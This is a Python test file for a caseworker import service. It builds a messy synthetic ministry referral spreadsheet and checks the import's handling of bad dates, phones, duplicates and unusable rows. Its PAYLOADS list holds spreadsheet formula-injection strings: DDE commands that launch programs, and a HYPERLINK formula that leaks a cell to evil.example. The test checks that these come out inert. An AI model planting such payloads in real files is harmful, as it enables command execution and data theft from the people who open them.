"""Done when (issue 12): a messy 186-row ministry list, as a new user would import it.

The list is generated here: one blank row, a hidden sheet in front, headings
half in Dari, Dari names, 1-January placeholders and Solar Hijri dates (in
Persian digits too), formula payloads, people we already hold referred again
under other spellings, phone numbers with a digit missing, dependants whose
principal is not on the list, and a few rows that cannot be anyone. Every
person with a name must end up imported or queued for review, every warning
must name its row and column, and importing the file again adds nothing.
"""

from __future__ import annotations

import datetime as dt
import random
from pathlib import Path

import openpyxl
from sqlalchemy import func, select

from caseworker.services.api import Services
from caseworker.services.intake import ImportRequest
from caseworker.store.models import Case, ContactPoint, IdentityDocument, ImportRow, Person

HEADINGS = ("S/No", "Family No", "Full Name", "نام", "Father Name", "Gender", "تاریخ تولد", "Tazkira No",
            "Passport No", "Phone", "Relation", "Province", "Remarks")
GIVEN = ("Abdul Karim", "Mohammad Nabi", "Gul Ahmad", "Sayed Jawad", "Noor Agha", "Abdul Wahid", "Mir Zaman",
         "Habib Rahman", "Shir Agha", "Faiz Mohammad", "Zabihullah", "Rahmatullah", "Najibullah", "Ehsanullah")
WOMEN = ("Fatima", "Zarghuna", "Malalai", "Nadia", "Shabnam", "Parwana", "Freshta", "Marzia", "Zahra", "Hamida")
SURNAMES = ("Ahmadzai", "Popalzai", "Barakzai", "Wardak", "Hashimi", "Sadat", "Kakar", "Noorzai", "Stanikzai",
            "Amiri", "Mohmand", "Safi", "Sultani", "Haidari", "Rahimi", "Karimi", "Yusufzai", "Durrani")
DARI = ("محمد نبی", "گل احمد", "سید جواد", "نور آغا", "عبدالواحد", "فاطمه", "زرغونه", "ملالی", "نادیه", "شبنم")
CHILDREN = ("son", "daughter", "پسر", "دختر")
PAYLOADS = ("+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0",
            '=HYPERLINK("http://evil.example/?"&B2,"details")')
# People the store holds before the list arrives, and how the list spells them again.
HELD = (("Mohammad Nabi Ahmadzai", "Muhammad Nabi Ahmadzay", "1400-0101-00001", "1985-03-14"),
        ("Gul Ahmad Popalzai", "Gulahmad Popalzay", "1400-0101-00002", "1979-01-01"),
        ("Sayed Jawad Hashimi", "Said Jawad Hashemi", "1400-0101-00003", "1990-07-21"),
        ("Noor Agha Barakzai", "Nur Agha Barakzay", "", "1982-05-05"))


def _phone(rng: random.Random, broken: bool) -> str:
    digits = f"07{rng.randrange(0, 10**8):08d}"
    return f"{digits[:3]} {digits[3:6]} {digits[6:9]}" if broken else f"{digits[:3]} {digits[3:6]} {digits[6:]}"


def _birth(rng: random.Random, year: int) -> object:
    form = rng.randrange(6)
    if form == 0:
        return f"01/01/{year}"  # the placeholder
    if form == 1:
        return f"{year - 621}/{rng.randrange(1, 13):02d}/{rng.randrange(1, 29):02d}"  # Solar Hijri
    if form == 2:
        return f"{year - 621}/05/12".translate(str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹"))
    if form == 3:
        return dt.datetime(year, rng.randrange(1, 13), rng.randrange(1, 29))  # an Excel date
    if form == 4:
        return year
    return "31/02/" + str(year)  # no such day: a warning


def ministry_rows(seed: int = 186) -> tuple[list[tuple[object, ...]], dict[str, set[int]]]:
    """186 data rows (and what each kind of row is, by row number in the sheet: headings on row 1)."""
    rng = random.Random(seed)
    rows: list[tuple[object, ...]] = []
    kinds: dict[str, set[int]] = {k: set() for k in ("bad_phone", "rereferral", "orphan", "unusable",
                                                      "with_unusable_principal", "blank", "payload")}
    serial = 0

    def add(kind: str | None, *cells: object) -> None:
        nonlocal serial
        rows.append(cells)
        if kind:
            kinds[kind].add(len(rows) + 1)

    families = 0
    while len(rows) < 150:
        families += 1
        surname = SURNAMES[families % len(SURNAMES)] + ("" if families < len(SURNAMES) else f" {families}")
        size = rng.randrange(1, 6)
        for member in range(size):
            serial += 1
            woman = member == 1 or (member > 1 and rng.random() < 0.5)
            given = (WOMEN if woman else GIVEN)[(families * 7 + member * 3) % len(WOMEN if woman else GIVEN)]
            relation = "self" if member == 0 else ("wife" if member == 1 else rng.choice(CHILDREN))
            year = 1975 + families % 15 if member < 2 else 2005 + member
            broken = rng.random() < 0.3
            remarks = PAYLOADS[serial % len(PAYLOADS)] if serial % 17 == 0 else ""
            add("bad_phone" if broken else ("payload" if remarks else None),
                serial, f"F{families:03d}", f"{given} {surname}", DARI[serial % len(DARI)] if serial % 3 == 0 else "",
                "Ghulam Sakhi" if member == 0 else "", "F" if woman else "M", _birth(rng, year),
                f"1400-{families:04d}-{member:05d}" if serial % 4 else "", "", _phone(rng, broken), relation,
                "Kabul", remarks)
            if broken and remarks:
                kinds["payload"].add(len(rows) + 1)
        if len(rows) == 60:
            add("blank", *([None] * len(HEADINGS)))
    for _latin, spelled, tazkira, born in HELD:  # referred again, under other spellings
        serial += 1
        add("rereferral", serial, f"R{serial}", spelled, "", "", "M", born, tazkira, "", _phone(rng, False), "self",
            "Herat", "re-referral")
    for i in range(6):  # dependants whose principal is not on this list
        serial += 1
        add("orphan", serial, "F999", f"{WOMEN[i]} Orphaned", "", "", "F", 2010 + i, "", "", "", "daughter", "", "")
    for i in range(4):  # a principal with no name in any script, and its family
        serial += 1
        add("unusable" if i == 0 else "with_unusable_principal", serial, "F888", "" if i == 0 else f"{GIVEN[i]} Lost",
            "", "", "M", 1980 + i, "", "", "", "self" if i == 0 else "son", "", "name missing" if i == 0 else "")
    serial += 1
    add("unusable", serial, "", "Ahmad " * 6000, "", "", "M", 1980, "", "", "", "self", "", "")  # 36,000 characters
    serial += 1
    add("unusable", f"Total: {serial - 1} people", None, None, None, None, None, None, None, None, None, None,
        None, None)
    while len(rows) < 186:
        serial += 1
        add(None, serial, f"S{serial}", f"{GIVEN[serial % len(GIVEN)]} Single{serial}", "", "", "M", 1970 + serial % 30,
            "", "", "", "self", "Nangarhar", "")
    return rows, kinds


def write_ministry_list(path: Path) -> dict[str, set[int]]:
    rows, kinds = ministry_rows()
    book = openpyxl.Workbook()
    hidden = book.active
    hidden.title = "Old list (do not use)"
    hidden.append(["Full Name", "Phone"])
    hidden.append(["Should Not Import", "0700000000"])
    hidden.sheet_state = "hidden"
    sheet = book.create_sheet("Referrals")
    sheet.append(list(HEADINGS))
    for row in rows:
        sheet.append(list(row))
    book.save(path)
    return kinds


def _counts(services: Services) -> dict[str, int]:
    with services.store.read() as session:
        return {m.__name__: session.execute(select(func.count()).select_from(m)).scalar_one()
                for m in (Case, Person, IdentityDocument, ContactPoint, ImportRow)}


def test_a_messy_ministry_list_takes_everyone_in(caseworker: Services, tmp_path: Path) -> None:
    from caseworker.services.inputs import CaseInput, DocumentInput, PersonInput

    for latin, _, tazkira, born in HELD:
        given, _, surname = latin.rpartition(" ")
        caseworker.cases.create(CaseInput(post="ISB", principal=PersonInput(
            doc_given_names=given.upper(), doc_surname=surname.upper(), father_name="", sex="M", birth_date=born,
            documents=(DocumentInput("E_TAZKIRA", tazkira, "AFG"),) if tazkira else ())))
    path = tmp_path / "ministry.xlsx"
    kinds = write_ministry_list(path)
    rows, _ = ministry_rows()
    out = tmp_path / "to-fix.xlsx"
    report = caseworker.intake.run_import(ImportRequest(path, source="Ministry of Defence", rejects_path=out,
                                                        mapping_json={"defaults": {"post": "ISB"}}))
    assert report.sheet == "Referrals" and any("Old list (do not use)" in note for note in report.notes)
    assert report.rows == 185 and report.empty_rows == 1  # 186 rows, one of them blank
    outcome = {r.row: r.outcome for r in report.results}
    assert len(outcome) == 185

    # Rejected: only the rows that cannot be anyone, and the family of the nameless principal with it.
    rejected = {row for row, o in outcome.items() if o == "REJECTED"}
    assert rejected == kinds["unusable"] | kinds["with_unusable_principal"]
    # Everyone else with a name is imported, linked to the person we hold, or queued for review.
    for row, o in outcome.items():
        if row not in rejected:
            assert o in ("CREATED", "QUEUED", "LINKED", "UPDATED"), (row, o, rows[row - 2])
    assert {outcome[r] for r in kinds["rereferral"]} <= {"LINKED", "UPDATED", "QUEUED"}  # not new people
    assert {outcome[r] for r in kinds["orphan"]} <= {"CREATED", "QUEUED"}
    assert report.created + report.queued == len(outcome) - len(rejected) - sum(
        1 for r in kinds["rereferral"] if outcome[r] in ("LINKED", "UPDATED"))

    # Every warning names its row and column; every phone with a digit missing is one, kept as written.
    assert report.warnings and all(w.row >= 2 and w.column and w.message for w in report.warnings)
    phones = {w.row: w.value for w in report.warnings if w.column == "Phone"}
    assert set(phones) == kinds["bad_phone"]
    assert all(len([c for c in value if c.isdigit()]) == 9 for value in phones.values())
    # … and the rows to fix hold every warning row and every rejected one, formula payloads inert.
    written = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert {r[0] for r in written[1:]} == {w.row for w in report.warnings} | rejected
    assert not any(isinstance(c, str) and c[:1] in "=+-@" for r in written for c in r)

    # A second import of the same file adds nothing.
    before = _counts(caseworker)
    again = caseworker.intake.run_import(ImportRequest(path, source="Ministry of Defence", rejects_path=out,
                                                       overwrite=True))
    assert _counts(caseworker) == before
    assert again.created == again.queued == again.linked == again.updated == 0
    assert again.unchanged == len(outcome) - len(rejected) and again.rejected == len(rejected)
    assert caseworker.history.verify().ok
